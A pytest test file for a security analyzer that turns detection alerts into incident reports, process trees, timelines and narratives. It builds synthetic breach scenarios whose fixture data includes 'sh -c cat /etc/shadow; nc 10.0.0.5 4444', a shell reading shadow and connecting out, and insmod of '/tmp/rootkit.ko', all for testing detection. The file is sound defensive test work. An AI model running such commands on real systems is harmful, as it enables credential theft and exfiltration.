"""Incidents, trees, timelines and narratives, from real DuckDB tables shaped like the views."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyzer.errors import TraceError
from analyzer.report import build_context, render_report
from analyzer.report.alerts_input import load_alerts
from analyzer.report.grouping import group_alerts
from analyzer.report.lineage import Image, Lineage, load_lineage
from analyzer.report.render import walk_tree
from analyzer.report.synthetic import RULE_META, SECOND, World, breach
from analyzer.report.tree import MAX_CHILDREN, build_tree


def narrative_text(incident) -> str:
    return "".join(f"`{p.text}`" if p.code else p.text for p in incident.narrative)


def nodes(incident):
    return [s.node for s in walk_tree(incident.roots) if s.kind == "open"]


@pytest.fixture(scope="module")
def scenario(tmp_path_factory):
    b = breach()
    path = b.world.write_alerts(tmp_path_factory.mktemp("alerts") / "alerts.parquet", RULE_META,
                                command="trace hunt --rules rules/default.yaml capture/")
    con = b.world.database()
    ctx = build_context(con, load_alerts(path), report_command="trace report alerts.parquet -o r.html")
    return b, con, ctx


def test_breach_is_two_incidents_most_severe_first_rule(scenario):
    _, _, ctx = scenario
    assert [i.alert_count for i in ctx.incidents] == [3, 1]
    first = ctx.incidents[0]
    assert [r.name for r in first.rules] == [
        "Outbound connection to C2", "Read sensitive file untrusted", "Run shell untrusted"]
    assert first.priority == "Critical" and first.level == "critical"
    assert first.hosts == ["web-1"] and first.containers == ["host"] and first.users == ["www-data"]


def test_narrative_tells_who_spawned_what_and_what_it_did(scenario):
    _, _, ctx = scenario
    text = narrative_text(ctx.incidents[0])
    assert text.startswith(
        "`nginx` (pid 812) spawned `sh` (pid 900), which ran `cat` and `nc`. "
        "`cat` (pid 901) read `/etc/shadow`. "
        "`nc` (pid 902) wrote `/tmp/.x` and connected to `10.0.0.5:4444`. "
        "3 alerts from 3 rules between ")
    assert text.endswith("the most severe is `Outbound connection to C2` (Critical).")
    assert narrative_text(ctx.incidents[1]).startswith(
        "`sh` (pid 1500) spawned `insmod` (pid 1501), which loaded `/tmp/rootkit.ko`. 1 alert from 1 rule at ")


def test_rules_summary_carries_desc_tags_and_attack_names(scenario):
    _, _, ctx = scenario
    shell = next(r for r in ctx.incidents[0].rules if r.name == "Run shell untrusted")
    assert shell.desc.full == "A shell was spawned by a service"
    assert "T1059.004" in shell.tags
    names = {t.tag: t.name for t in shell.attack}
    assert names == {"T1059.004": "Command and Scripting Interpreter: Unix Shell", "mitre_execution": "Execution"}


def test_tree_runs_from_pid_1_through_the_lineage_and_folds_the_rest(scenario):
    _, _, ctx = scenario
    inc = ctx.incidents[0]
    assert [r.pid for r in inc.roots] == [1]
    root = inc.roots[0]
    assert [c.pid for c in root.children] == [800]
    assert root.folded == 31  # 30 daemons and cron
    nginx = root.children[0]
    assert [c.pid for c in nginx.children] == [812] and nginx.folded == 3
    shell = nginx.children[0].children[0]
    assert (shell.pid, shell.name, shell.images) == (900, "sh", ["nginx"])
    assert [(c.pid, c.name, c.images) for c in shell.children] == [(901, "cat", ["sh"]), (902, "nc", ["sh"])]
    badged = {n.pid: [b.rule for b in n.badges] for n in nodes(inc) if n.badges}
    assert badged == {900: ["Run shell untrusted"], 901: ["Read sensitive file untrusted"],
                      902: ["Outbound connection to C2"]}
    assert {n.pid for n in nodes(inc) if n.alerting} == {n.pid for n in nodes(inc) if n.focus} == {900, 901, 902}
    assert shell.exe.full == "/bin/sh" and shell.user == "www-data (33)"
    cat = shell.children[0]
    assert cat.exit and cat.start  # exited within the capture


def test_timeline_orders_key_events_and_marks_alerting_ones(scenario):
    _, _, ctx = scenario
    rows = [(e.category, e.what.full, e.rules) for e in ctx.incidents[0].timeline]
    assert rows == [
        ("exec", "/bin/sh: sh -c cat /etc/shadow; nc 10.0.0.5 4444", ("Run shell untrusted",)),
        ("exec", "/usr/bin/cat: cat /etc/shadow", ()),
        ("read", "openat (read) /etc/shadow", ("Read sensitive file untrusted",)),
        ("exec", "/usr/bin/nc: nc 10.0.0.5 4444", ()),
        ("connect", "connect 10.0.0.5:4444", ("Outbound connection to C2",)),
        ("write", "openat (write) /tmp/.x", ()),
    ]
    # /etc/ld.so.cache is read but neither sensitive nor alerting: not a key event.
    assert all("ld.so.cache" not in e.what.full for e in ctx.incidents[0].timeline)


def test_per_process_detail_lists_files_peers_and_children(scenario):
    _, _, ctx = scenario
    details = {d.pid: d for d in ctx.incidents[0].details}
    assert set(details) == {900, 901, 902}
    assert [(f.path.full, f.access) for f in details[901].files] == [
        ("/usr/bin/cat", "exec"), ("/etc/shadow", "read"), ("/etc/ld.so.cache", "read")]
    assert [(p.proto, p.direction, p.local, p.remote) for p in details[902].peers] == [
        ("tcp", "outbound", "10.0.0.2:40000", "10.0.0.5:4444")]
    assert [(pid, name) for _, pid, name in details[900].children] == [(901, "cat"), (902, "nc")]


def test_evidence_has_every_output_field_and_the_event_parameters(scenario):
    _, _, ctx = scenario
    ev = next(e for e in ctx.incidents[0].evidence if e.rule == "Read sensitive file untrusted")
    assert dict((k, v.full) for k, v in ev.fields) == {
        "evt.type": "openat", "fd.name": "/etc/shadow", "proc.name": "cat", "user.name": "www-data"}
    assert dict((k, v.full) for k, v in ev.args) == {"fd": "3(<f>/etc/shadow)", "name": "/etc/shadow"}
    assert ev.node_id and ev.pid == 901


def test_reproduce_section_has_the_hunt_command_and_rules(scenario):
    _, _, ctx = scenario
    assert ctx.hunt_command == "trace hunt --rules rules/default.yaml capture/"
    assert ctx.rules_files == ["rules/default.yaml"]
    assert ctx.report_command == "trace report alerts.parquet -o r.html"


def test_investigation_of_a_pid_without_alerts(scenario):
    b, con, _ = scenario
    ctx = build_context(con, None, pid=1500)
    (inc,) = ctx.incidents
    assert ctx.mode == "investigation" and inc.alert_count == 0
    assert [n.pid for n in nodes(inc)] == [1, 500, 1500, 1501]
    assert {e.category for e in inc.timeline} == {"module"}
    with pytest.raises(TraceError, match="pid 4242"):
        build_context(con, None, pid=4242)


def test_render_report_writes_a_private_file(scenario, tmp_path):
    b, con, _ = scenario
    out = tmp_path / "report.html"
    path = b.world.write_alerts(tmp_path / "alerts.parquet", RULE_META)
    ctx = render_report(path, con, out)
    assert out.stat().st_mode & 0o777 == 0o600
    assert "Outbound connection to C2" in out.read_text()
    assert ctx.total_alerts == 4


def test_unreadable_alerts_file_is_a_clear_error(tmp_path):
    bad = tmp_path / "alerts.parquet"
    bad.write_text("not parquet")
    with pytest.raises(TraceError, match="not a readable alerts file"):
        load_alerts(bad)
    with pytest.raises(TraceError, match="not a readable alerts file"):
        load_alerts(tmp_path / "missing.parquet")


# --- grouping -----------------------------------------------------------------


def _grouped(world: World, window_s: int = 600):
    con = world.database()
    return [sorted(a.pid for a in g.alerts) for g in group_alerts(
        sorted(world.alerts, key=lambda a: a.time_ns), load_lineage(con), window_s * SECOND)]


def test_lineage_joins_alerts_any_time_apart():
    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    sshd = w.spawn(init, 10, "sshd", "/usr/sbin/sshd", ["sshd"])
    shell = w.spawn(sshd, 11, "bash", "/bin/bash", ["bash"])
    w.alert(w.event(shell, "setuid", arg0=0), "R", "Warning")
    w.now += 86_400 * SECOND
    child = w.spawn(shell, 12, "curl", "/usr/bin/curl", ["curl"])
    w.alert(w.event(child, "connect", addr_ip="1.2.3.4", addr_port=80), "R", "Warning")
    assert _grouped(w) == [[11, 12]]


def test_same_service_joins_within_the_window_only():
    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    sshd = w.spawn(init, 10, "sshd", "/usr/sbin/sshd", ["sshd"])
    a = w.spawn(sshd, 20, "bash", "/bin/bash", ["bash"])
    b = w.spawn(sshd, 30, "bash", "/bin/bash", ["bash"])
    w.alert(w.event(a, "setuid", arg0=0), "R", "Warning")
    w.now += 300 * SECOND
    w.alert(w.event(b, "setuid", arg0=0), "R", "Warning")  # 5 minutes later: same incident
    w.now += 3600 * SECOND
    c = w.spawn(sshd, 40, "bash", "/bin/bash", ["bash"])
    w.alert(w.event(c, "setuid", arg0=0), "R", "Warning")  # an hour later: a new one
    assert _grouped(w) == [[20, 30], [40]]
    assert _grouped(w, window_s=60) == [[20], [30], [40]]


def test_different_services_are_different_incidents():
    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    cron = w.spawn(init, 10, "cron", "/usr/sbin/cron", ["cron"])
    web = w.spawn(init, 20, "nginx", "/usr/sbin/nginx", ["nginx"])
    w.alert(w.event(w.spawn(cron, 11, "sh", "/bin/sh", ["sh"]), "setuid", arg0=0), "R", "Warning")
    w.alert(w.event(w.spawn(web, 21, "sh", "/bin/sh", ["sh"]), "setuid", arg0=0), "R", "Warning")
    assert _grouped(w) == [[11], [21]]


def test_same_container_joins_within_the_window():
    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    shim = w.spawn(init, 50, "containerd-shim", "/usr/bin/containerd-shim", ["shim"])
    cinit = w.spawn(shim, 60, "tini", "/tini", ["tini"], container="abc123abc123")
    app1 = w.spawn(cinit, 61, "app", "/app", ["app"], container="abc123abc123")
    app2 = w.spawn(cinit, 62, "worker", "/worker", ["worker"], container="abc123abc123")
    w.alert(w.event(w.spawn(app1, 70, "sh", "/bin/sh", ["sh"], container="abc123abc123"), "setuid", arg0=0), "R", "Warning")
    w.now += 120 * SECOND
    w.alert(w.event(w.spawn(app2, 71, "sh", "/bin/sh", ["sh"], container="abc123abc123"), "setuid", arg0=0), "R", "Warning")
    assert _grouped(w) == [[70, 71]]
    con = w.database()
    lineage = load_lineage(con)
    focus = [lineage.by_pid(70)[0], lineage.by_pid(71)[0]]
    tree = build_tree(focus, lambda p: [], "t-")
    assert [r.pid for r in tree.roots] == [60]  # the container's init, not the host's pid 1


def test_alert_on_an_unknown_process_is_kept_and_reported(tmp_path):
    b = breach()
    b.world.alerts[0] = type(b.world.alerts[0])(**{**b.world.alerts[0].__dict__, "proc_key": "999999"})
    path = b.world.write_alerts(tmp_path / "alerts.parquet", RULE_META)
    ctx = build_context(b.world.database(), load_alerts(path))
    assert sum(i.alert_count for i in ctx.incidents) == 4
    assert any("process table does not hold" in w for w in ctx.warnings)


# --- folding ------------------------------------------------------------------


def test_many_children_of_an_alerting_process_fold_beyond_the_limit(tmp_path):
    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    bomb = w.spawn(init, 10, "bomb", "/tmp/bomb", ["bomb"])
    for i in range(MAX_CHILDREN + 25):
        w.spawn(bomb, 1000 + i, "bomb", "/tmp/bomb", ["bomb"])
    w.alert(w.event(bomb, "setuid", arg0=0), "R", "Warning")
    ctx = build_context(w.database(), _alerts_file(w, tmp_path))
    node = ctx.incidents[0].roots[0].children[0]
    assert len(node.children) == MAX_CHILDREN and node.folded == 25


def test_a_deep_chain_renders_without_recursion_limits(tmp_path):
    w = World()
    key = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    for depth in range(2000):
        key = w.spawn(key, 10 + depth, "sh", "/bin/sh", ["sh"])
    w.alert(w.event(key, "setuid", arg0=0), "R", "Warning")
    out = tmp_path / "deep.html"
    ctx = render_report(_alerts_file(w, tmp_path), w.database(), out)
    (root,) = ctx.incidents[0].roots
    assert root.elided_above > 1900 and root.elided_top == "systemd (1)"
    assert 2009 in [n.pid for n in nodes(ctx.incidents[0]) if n.alerting]
    assert "more ancestors up to systemd (1)" in out.read_text()



def _alerts_file(world: World, tmp_path):
    return load_alerts(world.write_alerts(tmp_path / "alerts.parquet", {}))


def test_descendants_below_a_nested_alerting_process_stay_in_the_tree(tmp_path):
    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    shell = w.spawn(init, 10, "sh", "/bin/sh", ["sh"])
    child = w.spawn(shell, 11, "python3", "/usr/bin/python3", ["python3"])
    grandchild = w.spawn(child, 12, "bash", "/bin/bash", ["bash"])
    w.spawn(grandchild, 13, "id", "/usr/bin/id", ["id"])
    sibling = w.spawn(child, 14, "sh", "/bin/sh", ["sh"])
    w.spawn(sibling, 15, "curl", "/usr/bin/curl", ["curl"])
    w.alert(w.event(shell, "setuid", arg0=0), "R", "Warning")
    w.alert(w.event(grandchild, "setuid", arg0=0), "R", "Warning")  # below the shell, via python3
    ctx = build_context(w.database(), _alerts_file(w, tmp_path))
    assert [n.pid for n in nodes(ctx.incidents[0])] == [1, 10, 11, 12, 13, 14, 15]


def test_an_empty_hunt_still_renders_a_report(tmp_path):
    w = World()
    w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    out = tmp_path / "empty.html"
    ctx = render_report(_alerts_file(w, tmp_path), w.database(), out)
    assert ctx.incidents == [] and "No alerts: nothing to report." in out.read_text()


# --- tree invariants over random process forests ---------------------------------

forests = st.integers(min_value=1, max_value=60).flatmap(lambda n: st.tuples(
    st.lists(st.integers(min_value=0, max_value=n), min_size=n, max_size=n),  # parent index per process (>= own: none)
    st.sets(st.integers(min_value=0, max_value=n - 1), min_size=1, max_size=min(n, 6)),
))


@given(forests)
def test_tree_shows_every_focus_process_once_and_accounts_for_every_child(forest):
    parents, focus_idx = forest
    images = [
        Image(key=i, pid=100 + i, parent_key=(p if p < i else None), start_ts=i, end_ts=None, comm=f"p{i}",
              exe=None, exepath=None, cmdline=None, uid=0, user_name="root", container_id="host", host="h")
        for i, p in enumerate(parents)
    ]
    lineage = Lineage(images)
    focus = [lineage.get(i) for i in sorted(focus_idx)]
    tree = build_tree(focus, lambda p: [], "t-")
    shown = [s.node for s in walk_tree(tree.roots) if s.kind == "open"]
    pids = [n.pid for n in shown]
    assert len(pids) == len(set(pids)) == tree.count
    assert {p.pid for p in focus} <= set(pids)
    for proc in focus:  # the whole way up to the root is shown
        assert {a.pid for a in proc.ancestors()} <= set(pids)
    for node in shown:
        proc = lineage.get(node.pid - 100)
        assert len(node.children) + node.folded == len(proc.children)
    assert {n.pid for n in shown if n.focus} == {p.pid for p in focus}


def test_shell_redirects_to_dev_null_are_not_file_writes(tmp_path):
    from analyzer.report.synthetic import O_CREAT, O_WRONLY

    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    shell = w.spawn(init, 10, "sh", "/bin/sh", ["sh"])
    w.alert(w.event(shell, "setuid", arg0=0), "R", "Warning")
    w.open(shell, "/dev/null", O_WRONLY | O_CREAT)
    w.open(shell, "/dev/pts/0", O_WRONLY)
    w.open(shell, "/tmp/dropped", O_WRONLY | O_CREAT)
    ctx = build_context(w.database(), _alerts_file(w, tmp_path))
    assert [(e.category, e.what.full) for e in ctx.incidents[0].timeline] == [
        ("privilege", "setuid(0)"), ("write", "openat (write) /tmp/dropped")]


def test_a_deep_alerting_process_below_another_alerting_one_is_drawn_once(tmp_path):
    w = World()
    key = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    shallow = key = w.spawn(key, 2, "sh", "/bin/sh", ["sh"])
    for depth in range(400):
        key = w.spawn(key, 10 + depth, "sh", "/bin/sh", ["sh"])
    w.alert(w.event(shallow, "setuid", arg0=0), "R", "Warning")
    w.alert(w.event(key, "setuid", arg0=0), "R", "Warning")
    ctx = build_context(w.database(), _alerts_file(w, tmp_path))
    drawn = [n.pid for n in nodes(ctx.incidents[0])]
    assert len(drawn) == len(set(drawn))
    assert {2, 409} <= {n.pid for n in nodes(ctx.incidents[0]) if n.alerting}


def test_the_synthetic_tables_have_the_real_views_columns_and_types(tmp_path):
    """World stands in for analyzer.state in these tests: it must not drift from the views."""
    import shutil
    from pathlib import Path

    from analyzer.state import open_captures

    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "scenarios" / "sensitive_read_untrusted"
    capture = shutil.copytree(fixture, tmp_path / "capture")
    w = World()
    w.spawn(None, 1, "init", "/sbin/init", ["init"])
    synthetic = w.database()
    with open_captures([str(capture)]) as cs:
        for view in ("events", "processes", "fds"):
            real = dict(cs.con.execute(f"select column_name, column_type from (describe {view})").fetchall())
            mine = dict(synthetic.execute(f"select column_name, column_type from (describe {view})").fetchall())
            assert {c: t for c, t in mine.items() if real.get(c) != t} == {}, view


def _image(key, pid, parent, start, end, comm):
    return Image(key=key, pid=pid, parent_key=parent, start_ts=start, end_ts=end, comm=comm, exe=None,
                 exepath=None, cmdline=None, uid=0, user_name="root", container_id="host", host="h")


def test_exec_images_merge_without_prev_key_and_pid_reuse_does_not():
    lineage = Lineage([
        _image(1, 1, None, 0, None, "init"),
        _image(2, 50, 1, 10, 20, "bash"),   # fork of a shell...
        _image(3, 50, 1, 20, 30, "cat"),    # ...that exec'd cat
        _image(4, 50, 1, 40, None, "nc"),   # pid 50 again, after cat exited: another process
    ])
    init = lineage.get(1)
    assert [[i.comm for i in c.images] for c in init.children] == [["bash", "cat"], ["nc"]]
    assert lineage.get(2) is lineage.get(3)


def test_a_pid_seen_twice_under_one_parent_without_a_gap_is_one_process():
    # analyzer.state can report one vfork as two images, the second starting
    # the nanosecond the first ends, linked to the exec by _prev_key only.
    lineage = Lineage(
        [_image(1, 1, None, 0, None, "sh"), _image(2, 9, 1, 10, 11, "sh"), _image(3, 9, 1, 11, 12, "sh"),
         _image(4, 9, 1, 12, 20, "touch")],
        prev_of={4: 3},
    )
    (child,) = lineage.get(1).children
    assert [i.key for i in child.images] == [2, 3, 4]


def test_narrative_of_a_shell_that_acts_itself(tmp_path):
    w = World()
    init = w.spawn(None, 1, "systemd", "/sbin/init", ["init"])
    nginx = w.spawn(init, 812, "nginx", "/usr/sbin/nginx", ["nginx"])
    shell = w.spawn(nginx, 900, "sh", "/bin/sh", ["sh"])
    w.alert(w.open(shell, "/etc/shadow"), "Read sensitive file untrusted", "Warning")
    w.connect(shell, "10.0.0.5", 4444)
    ctx = build_context(w.database(), _alerts_file(w, tmp_path))
    assert narrative_text(ctx.incidents[0]).startswith(
        "`nginx` (pid 812) spawned `sh` (pid 900), which read `/etc/shadow` and connected to `10.0.0.5:4444`. "
        "1 alert from 1 rule between ")
